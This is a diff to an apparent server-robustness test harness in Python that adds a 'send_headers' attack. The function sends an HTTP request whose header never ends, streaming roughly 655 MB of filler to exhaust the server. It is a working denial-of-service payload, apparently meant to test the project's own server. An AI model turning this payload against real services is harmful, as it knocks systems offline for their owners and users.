@@ -27,7 +27,17 @@ async def ask_for_positions(
         await reader.readexactly(int(head.lower().split(b"content-length:")[1].split()[0]))
 
 
-ATTACKS: dict[str, Attack] = {"positions": ask_for_positions}
+async def send_headers(
+    place: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, path: str
+) -> None:
+    """Send a header without an end."""
+    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
+    for _ in range(10_000):
+        writer.write(b"x" * 65_536)
+        await writer.drain()
+
+
+ATTACKS: dict[str, Attack] = {"positions": ask_for_positions, "headers": send_headers}
 
 
 async def attack(kind: str, place: int, port: int, path: str) -> None:
